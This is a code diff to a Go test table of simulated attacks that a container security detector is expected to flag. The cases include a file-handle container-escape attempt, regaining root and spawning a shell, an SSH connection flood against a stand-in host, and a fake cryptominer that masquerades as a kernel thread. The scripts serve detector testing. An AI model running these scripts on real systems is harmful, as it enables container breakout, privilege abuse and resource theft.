@@ -33,7 +33,7 @@ func bringing() []attackCase {
 import ctypes,os,struct
 l=ctypes.CDLL(None,use_errno=True);open("/run/x","w").close();h=ctypes.create_string_buffer(struct.pack("Ii",128,0)+bytes(128));m=ctypes.c_int()
 l.syscall(303,-100,b"/run/x",h,ctypes.byref(m),0);print(l.syscall(304,os.open("/run",0),h,0),ctypes.get_errno())'`, opts: []option{privileged},
-			rules: []string{"dangerous-capability-used"}, least: medium, outcome: seen},
+			rules: []string{"dangerous-capability-used"}, least: medium, outcome: seen, unsaid: "BPF LSM tells the capability, not in which system call it is used"},
 		// A server that gave root away but kept a way back (CWE-273), and whoever took it over.
 		{name: "became-root", script: `python3 -c '
 import ctypes,os
@@ -48,8 +48,8 @@ os.setresuid(0,0,0);os.execv("/bin/sh",["sh","-c","id -u"])'`, opts: []option{or
 		{name: "password-guessing", script: `printf 'import socket\nfor i in range(45):\n s=socket.create_connection(("203.0.113.5",22));s.recv(64);s.sendall(b"SSH-2.0-x\\r\\n");s.close()\n' > /home/g.py; python3 /home/g.py`,
 			rules: []string{"password-guessing"}, least: high, outcome: seen},
 		// It hides its name, speaks to nobody's pool by name, and takes a processor before all others.
-		{name: "miner-busy", script: `printf 'import os,socket\nos.setpriority(os.PRIO_PROCESS,0,-10);s=socket.create_connection(("203.0.113.5",14433));s.sendall(b"\\x16\\x03\\x01")\nwhile True: pass\n' > /home/m.py
-timeout 50 bash -c 'exec -a "[kworker/u8:2]" python3 /home/m.py'`, opts: []option{privileged}, rules: []string{"miner"}, least: bollwerk.SeverityCritical, outcome: seen, slow: true},
+		{name: "miner-busy", script: `printf 'import os,socket\nos.setpriority(os.PRIO_PROCESS,0,-10);g="/proc/self/autogroup";os.path.exists(g) and open(g,"w").write("-10");s=socket.create_connection(("203.0.113.5",14433));s.sendall(b"\\x16\\x03\\x01")\nwhile True: pass\n' > /home/m.py
+timeout 50 bash -c 'exec -a "[kworker/u8:2]" python3 /home/m.py'`, opts: []option{privileged, ample}, rules: []string{"miner"}, least: bollwerk.SeverityCritical, outcome: seen, slow: true},
 	}
 }
 
@@ -96,6 +96,11 @@ func administrator(spec map[string]any) {
 // hostFolder shows the container a folder of the host that says who may log in there.
 func hostFolder(spec map[string]any) {
 	spec["mounts"] = append(spec["mounts"].([]any), map[string]any{"destination": "/mnt", "type": "bind", "source": "/etc", "options": []string{"bind", "ro"}})
+}
+
+// ample gives the container a greater share of the processors than all others have.
+func ample(spec map[string]any) {
+	spec["linux"].(map[string]any)["resources"].(map[string]any)["cpu"] = map[string]any{"shares": 1 << 17}
 }
 
 // disk is where the kernel tells of the first disk of this machine.
